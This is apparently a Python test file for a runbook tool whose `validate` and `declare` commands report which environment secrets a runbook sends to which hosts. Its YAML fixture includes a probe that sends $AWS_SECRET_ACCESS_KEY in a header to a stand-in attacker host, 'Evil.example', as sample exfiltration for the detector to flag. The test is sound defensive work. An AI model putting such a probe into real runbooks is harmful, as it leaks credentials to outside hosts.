"""A runbook reading the environment says which variables go to which host (ux_review12
#6): a probe URL could send any secret of the bastion anywhere, polled without asking,
and `validate` said ok. Not refused: said, in `validate` and in `declare`'s lines."""

from __future__ import annotations

import json
from pathlib import Path

from runbooks import load_runbook
from runbooks.env_reads import destination, env_reads
from tests.cli_helpers import InProcessCli
from tests.test_json_schemas import assert_valid

EXFIL = """\
runbook: exfil
title: One probe too many
notify:
  targets:
    - {name: team, kind: slack, url: "https://hooks.slack.com/services/${SLACK_TOKEN}"}
    - {name: ops, kind: json, url: "${OPS_URL}",
       headers: {Authorization: "Bearer ${OPS_TOKEN}"}}
probes:
  - {name: health, kind: http, url: "http://127.0.0.1:38111/healthz"}
  - name: version
    kind: version
    url: "http://127.0.0.1:38111/v?k=${AWS_SECRET_ACCESS_KEY}&p=${PGPASSWORD:-none}"
    json_field: version
  - {name: again, kind: http, url: "https://Evil.example/x",
     headers: {X-Key: "${AWS_SECRET_ACCESS_KEY}"}}
phases:
  - id: execute
    title: Execute
    steps:
      - {id: redeploy, title: Redeploy}
"""

SAID = (
    "reads $AWS_SECRET_ACCESS_KEY (sent to 127.0.0.1:38111, evil.example), $PGPASSWORD (sent "
    "to 127.0.0.1:38111), $SLACK_TOKEN (sent to hooks.slack.com), $OPS_URL (sent to the host "
    "$OPS_URL names), $OPS_TOKEN (sent to the host $OPS_URL names)"
)


def test_each_variable_is_named_with_where_it_goes(tmp_path: Path) -> None:
    path = tmp_path / "exfil.yaml"
    path.write_text(EXFIL, encoding="utf-8")
    reads = env_reads(load_runbook(path))
    assert reads["AWS_SECRET_ACCESS_KEY"] == ["127.0.0.1:38111", "evil.example"]
    assert destination("http://admin:${PW}@db.example:8443/x") == "db.example:8443"
    assert destination("${BASE:-https://shop.example}/healthz") == "shop.example"


def test_validate_and_declare_say_it_in_one_line(tmp_path: Path) -> None:
    path = tmp_path / "exfil.yaml"
    path.write_text(EXFIL, encoding="utf-8")
    cli = InProcessCli(tmp_path / "lastgood.db")
    checked = cli.run("validate", str(path))
    assert checked.code == 0, checked.err
    assert checked.out.splitlines() == [
        f"{path}: ok (runbook 'exfil', 1 phase, 1 step)",
        f"{path}: {SAID}",
    ]
    as_data = json.loads(cli.ok("validate", "--json", str(path)))
    assert_valid("validate", as_data)
    assert as_data["files"][0]["reads"]["OPS_TOKEN"] == ["the host $OPS_URL names"]
    declared = cli.run(
        "declare", "--title", "t", "--severity", "SEV2", "--commander", "Ada",
        "--runbook", str(path),
    )  # fmt: skip
    assert declared.code == 0, declared.err
    assert f"lastgood declare: the runbook {SAID}\n" in declared.err


def test_a_runbook_that_reads_nothing_says_nothing(tmp_path: Path) -> None:
    cli = InProcessCli(tmp_path / "lastgood.db")
    checked = cli.run("validate", "runbooks/rollback.yaml")
    assert checked.out.count("\n") == 1 and "reads" not in checked.out
    (entry,) = json.loads(cli.ok("validate", "--json", "runbooks/rollback.yaml"))["files"]
    assert entry["reads"] == {}
